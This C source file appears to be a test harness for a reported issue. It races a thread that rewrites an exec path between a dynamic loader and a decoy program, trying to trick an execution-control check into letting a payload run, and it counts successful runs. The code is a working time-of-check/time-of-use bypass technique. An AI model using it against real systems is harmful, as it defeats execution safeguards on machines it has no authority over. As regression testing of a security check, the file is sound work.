/* Issue 14 (6): a direct loader invocation whose exec name another thread rewrites while
 * the exec is held. Each attempt forks a child whose main thread calls
 * execve(LOADER, [LOADER, PAYLOAD]) from a buffer that a second thread keeps flipping
 * between LOADER and DECOY (an image program): a check that re-reads the name from the
 * task's memory may see DECOY and take the loader for a program's interpreter.
 *
 *   loader-race LOADER DECOY PAYLOAD ATTEMPTS
 *
 * Prints "ran N" (attempts in which the payload ran: it prints "uid=") on stdout. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char name[4096];
static const char *loader, *decoy;

static void *flip(void *unused) {
    (void)unused;
    for (;;) {
        strcpy(name, decoy);
        sched_yield();
        strcpy(name, loader);
        sched_yield();
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: loader-race LOADER DECOY PAYLOAD ATTEMPTS\n");
        return 2;
    }
    loader = argv[1];
    decoy = argv[2];
    int attempts = atoi(argv[4]), ran = 0;
    for (int i = 0; i < attempts; i++) {
        int out[2];
        if (pipe(out) != 0) return 1;
        pid_t pid = fork();
        if (pid == 0) {
            dup2(out[1], 1);
            close(out[0]);
            strcpy(name, loader);
            pthread_t t;
            pthread_create(&t, NULL, flip, NULL);
            usleep(50);
            char *args[] = {(char *)loader, argv[3], NULL};
            execv(name, args);
            _exit(126);
        }
        close(out[1]);
        char buf[256];
        ssize_t n, total = 0;
        char seen[256] = {0};
        while ((n = read(out[0], buf, sizeof buf)) > 0) {
            if (total < (ssize_t)sizeof seen - 1) {
                size_t k = n < (ssize_t)(sizeof seen - 1 - total) ? (size_t)n : sizeof seen - 1 - total;
                memcpy(seen + total, buf, k);
                total += k;
            }
        }
        close(out[0]);
        waitpid(pid, NULL, 0);
        if (strstr(seen, "uid=")) ran++;
    }
    printf("ran %d\n", ran);
    return 0;
}
